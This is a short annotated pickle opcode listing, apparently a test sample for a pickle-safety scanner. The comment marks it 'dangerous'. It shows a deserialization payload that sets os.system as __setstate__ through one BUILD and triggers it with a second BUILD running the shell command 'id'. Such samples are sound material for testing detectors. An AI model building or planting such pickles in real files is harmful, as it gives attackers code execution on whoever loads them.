# dangerous: BUILD sets __setstate__, the next BUILD calls it
PROTO 2
GLOBAL somebodys.library Model
EMPTY_TUPLE
NEWOBJ
EMPTY_DICT
BINUNICODE "__setstate__"
GLOBAL os system
SETITEM
BUILD
BINUNICODE "id"
BUILD
STOP
